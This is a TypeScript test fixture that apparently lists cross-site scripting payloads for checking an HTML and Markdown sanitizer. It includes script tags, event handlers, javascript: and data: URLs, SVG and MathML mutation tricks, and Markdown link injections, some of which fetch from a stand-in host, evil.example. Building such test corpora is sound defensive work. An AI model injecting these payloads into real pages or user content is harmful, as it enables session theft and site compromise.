/**
 * Ways to run a script from an author's text in a page: in HTML, and in Markdown that becomes HTML.
 * A script that runs sets `window.__ran`, or fetches from `evil.example`.
 */
const run = 'window.__ran=1';
const evil = '//evil.example/x';

/** A character reference for every character. */
const padded = (text: string) =>
  [...text].map((one) => `&#${String(one.codePointAt(0)).padStart(7, '0')}`).join('');

const scripts = [
  `<script>${run}</script>`,
  `<script src="https:${evil}.js" defer>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}<!--`,
  `<scri\0pt>${run}</scri\0pt>`,
  `<script x=">" y>${run}</script>`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img """><img src=x onerror=${run}>`,
  `<img alt="<x" title="/><img src=x onerror=${run}>">`,
  `<body onload=${run}>`,
  `<a href="#" onclick=${run}>press</a>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<p style="animation:x 1s" onanimationstart=${run}>x</p>`,
  `<p id=x tabindex=1 autofocus onfocusin=${run}>x</p>`,
  `<xss contenteditable onbeforeinput=${run} id=y>x</xss>`,
  `<table background=${evil}><tr><th onload=${run} style="background:url(${evil})">x</table>`,
  `<th class="post-right" onclick=${run}>x`,
];

const addresses = [
  `<a href="javascript:${run}">x</a>`,
  `<a href=" \u0001javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="java&Tab;script&colon;${run}">x</a>`,
  `<a href="${padded(`javascript:${run}`)}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="\\\\evil.example">x</a>`,
  `<a href="/\t/evil.example">x</a>`,
  `<a xlink:href="javascript:${run}">x</a>`,
  `<a href="https://example.ie" ping="${evil}" target=_blank>x</a>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<blockquote cite="javascript:${run}">x</blockquote>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="${evil}.css">`,
];

const frames = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
];

const strangers = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run} /></svg>#x"/></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];

/** Text for one parser and tags for the next. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<option><style></option></select><img src=x onerror=${run}></style>`,
  `<style><img src="</style><img src=x onerror=${run}//">`,
  `<style>@import "${evil}.css"; * { background: url(${evil}) }</style>`,
  `<td style="text-align:right;background:url(${evil}.png)">x</td>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<!doctype html [<!entity x "<img src=x onerror=${run}>">]>&x;`,
  `<a title="&quot;><img src=x onerror=${run}>">x</a>`,
  `<a href="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `<p><table><img src=x onerror=${run}><tr><td>x`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<figure data-chart="asking-price" onclick=${run}></figure>`,
  `<a name=__ran></a><form name=body id=location><input name=innerHTML></form>`,
  `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
  `<p ${'a '.repeat(600)}onclick=${run}>x</p>`,
  `<img src=x onerror=${run}`,
  `<\uff53cript>${run}</\uff53cript>`,
];

const markdown = [
  `[x](javascript:${run})`,
  `[x](java&#x0A;script:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](<java\\script:${run}>)`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](//evil.example)`,
  `<javascript:${run}>`,
  `[x]\n\n[x]: javascript:${run}`,
  `[x](https://example.ie/ "a\\" onmouseover=\\"${run}")`,
  `[x](https://example.ie/"onmouseover="${run})`,
  `![x" onerror="${run}](x)`,
  `![x](${evil}.png)`,
  `![<img src=x onerror=${run}>](x)`,
  `[<img src=x onerror=${run}>](/about)`,
  `\`<img src=x onerror=${run}>\``,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
  `\`\`\`html onclick=${run}\n<script>${run}</script>\n\`\`\``,
  `| <img src=x onerror=${run}> |\n| --- |\n| <script>${run}</script> |`,
  `<p>\n\n**<script>**${run}</script>\n\n</p>`,
  `<div markdown=1>\n\n[x](javascript:${run})\n\n</div>`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\<script>${run}</script>`,
  `{{price-chart}}<img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}} x`,
];

export const scriptVectors: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...strangers,
  ...mutations,
  ...markdown,
];
